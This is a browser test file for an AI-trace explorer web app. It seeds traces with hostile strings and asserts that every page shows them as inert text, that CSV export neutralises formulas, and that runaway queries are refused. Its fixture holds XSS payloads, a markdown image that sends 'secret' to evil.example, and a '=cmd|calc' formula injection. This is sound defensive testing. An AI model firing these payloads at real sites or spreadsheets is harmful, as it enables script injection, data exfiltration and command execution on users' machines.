import { describe, expect, it } from 'vitest'
import { lacks } from '../../tools/test/lacks.ts'
import { sendTrace } from '../harness/otlp-json.ts'
import type { RunningServer } from '../harness/server.ts'
import { explorerPage, sidewaysPx } from './explorer-page.ts'

/** What a page could take for more than text, or not show (HX-50, HX-51, HX-54). */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)>',
  '[x](javascript:alert(4))',
  '![](http://evil.example/?q=secret)',
  'data:text/html,<script>alert(5)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(6)>">',
  '"><iframe srcdoc="<script>alert(7)</script>">',
  '\u202egpj.exe\u202c\u200b\u001b[31mred',
  '=cmd|calc',
].join(' ')

const rootId = 'aaaaaaaaaaaaaa01'
const modelId = 'aaaaaaaaaaaaaa02'

/** Traces of which everything that somebody can name is hostile, half of them failed, so that every page has something to show. */
async function seed({ url }: RunningServer): Promise<string> {
  let last = ''
  for (let at = 0; at < 24; at++) {
    const startMs = Date.now() - 120_000 - at * 1000
    const failed = at % 2 === 0 ? { error: `${hostile} ${at}` } : {}
    const messages = (role: string) => JSON.stringify([{ role, parts: [{ type: 'text', content: hostile }] }])
    last = await sendTrace(url, {
      service: 'shop',
      spans: [
        {
          id: rootId,
          name: hostile,
          startMs,
          durationMs: 900,
          ...failed,
          attributes: {
            'gen_ai.operation.name': 'invoke_agent',
            'gen_ai.conversation.id': hostile,
            'user.id': hostile,
            'service.version': hostile,
            [hostile]: hostile,
            cohort: at % 2 === 0 ? '<img src=x onerror=alert(2)>' : 'calm',
            'assay.tag.area': hostile,
            'gen_ai.input.messages': messages('user'),
            'gen_ai.output.messages': messages('assistant'),
          },
        },
        {
          id: modelId,
          parent: rootId,
          name: hostile,
          startMs: startMs + 10,
          durationMs: 300,
          attributes: {
            'gen_ai.operation.name': 'chat',
            'gen_ai.request.model': hostile,
            'gen_ai.provider.name': hostile,
            'gen_ai.usage.input_tokens': 10,
            'gen_ai.usage.output_tokens': 10,
            'gen_ai.input.messages': messages('user'),
            'gen_ai.output.messages': messages(hostile),
          },
        },
        {
          parent: rootId,
          name: hostile,
          startMs: startMs + 400,
          durationMs: 300,
          ...failed,
          attributes: { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': hostile, 'gen_ai.tool.call.arguments': hostile },
        },
      ],
    })
    const feedback = await fetch(`${url}/api/assay/v1/traces/tr-${last}/feedback`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: hostile.slice(0, 100), value: hostile, rationale: hostile }),
    })
    if (!feedback.ok) throw new Error(await feedback.text())
  }
  const provider = await fetch(`${url}/api/assay/v1/providers`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ kind: 'openai', name: '<img src=x onerror=alert(8)>', model: 'gpt-4o', key: 'never-used' }),
  })
  if (!provider.ok) throw new Error(await provider.text())
  return `tr-${last}`
}

describe.skipIf(lacks('chromium'))('what is hostile in traces', () => {
  let project = ''
  let trace = ''
  const { open, server } = explorerPage(async (started) => {
    trace = await seed(started)
    const answer = await fetch(`${started.url}/api/assay/v1/experiments`)
    const { experiments } = (await answer.json()) as { experiments: { experimentId: string; name: string }[] }
    project = `/p/${experiments.find(({ name }) => name === 'shop')?.experimentId}`
  })

  const session = encodeURIComponent(hostile)
  const pages: [name: string, path: () => string][] = [
    ['the first page', () => `${project}/now`],
    ['the traces', () => `${project}/traces`],
    ['the spans', () => `${project}/traces?tab=spans`],
    ['the conversations', () => `${project}/traces?tab=conversations`],
    ['the users', () => `${project}/traces?tab=users`],
    ['traces by failure', () => `${project}/traces?group=failure`],
    ['traces by model', () => `${project}/traces?group=model`],
    ['a trace', () => `${project}/traces/${trace}`],
    ['its messages', () => `${project}/traces/${trace}?view=messages`],
    ['its graph', () => `${project}/traces/${trace}?view=graph`],
    ['its log', () => `${project}/traces/${trace}?view=log`],
    ['its spans as they are stored', () => `${project}/traces/${trace}?view=raw`],
    ['the conversation', () => `${project}/conversations/${session}`],
    ['the agent map', () => `${project}/map`],
    ['what differs', () => `${project}/differs`],
    ['the costs', () => `${project}/costs`],
    ['the costs by user', () => `${project}/costs?by=user`],
    ['a comparison', () => `${project}/compare?a=${trace}&b=${trace}`],
    ['the playground', () => `${project}/playground?trace=${trace}&span=${modelId}`],
  ]

  // Dialogs, requests to elsewhere and errors of a page fail the test by themselves.
  it.each(pages)('HX-50 HX-51 HX-54 on %s is text, and nobody is asked for anything', async (_, path) => {
    const page = await open(path())
    // It is there, as what it is.
    await page.locator('main', { hasText: 'onerror=alert(2)' }).waitFor()
    const planted = await page
      .locator(
        'img:not([src^="data:image/"]):not([src^="blob:"]), iframe, object, embed, main script, a[href^="javascript:" i], a[href^="data:" i]',
      )
      .count()
    expect(planted).toBe(0)
    expect(await page.locator('[onerror], [onload]').count()).toBe(0)
    // Marks of direction and invisible characters are drawn as signs, never left to work.
    expect(await page.locator('main').innerText()).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\u001b]/)
    expect(await sidewaysPx(page)).toBe(0)
  })

  it('HX-53 begins no cell of a table with a formula', async () => {
    const answer = await fetch(`${server().url}/api/assay/v1${project.replace('/p/', '/experiments/')}/traces/export?format=csv`)
    expect(answer.status).toBe(200)
    const text = await answer.text()
    expect(text).toContain('onerror')
    expect(text).not.toMatch(/(?:^|,)"?[=+@-](?![\d.])/m)
  })

  it('HX-82 is no way to make the server work without end', async () => {
    const api = `${server().url}/api/assay/v1${project.replace('/p/', '/experiments/')}`
    const nowMs = Date.now()
    const tenYearsMs = 10 * 365 * 86_400_000
    const asked = [
      `/series?from=${nowMs - tenYearsMs}&to=${nowMs}&bucketMs=1000`,
      `/costs?from=${nowMs - tenYearsMs}&to=${nowMs}&bucketMs=1000`,
      `/failures?limit=1000000`,
      `/map?q=${'tool:x '.repeat(5000)}`,
    ]
    for (const path of asked) {
      const answer = await fetch(`${api}${path}`)
      expect([400, 413, 414, 431], `${path.slice(0, 80)}: ${answer.status}`).toContain(answer.status)
    }
  })
})
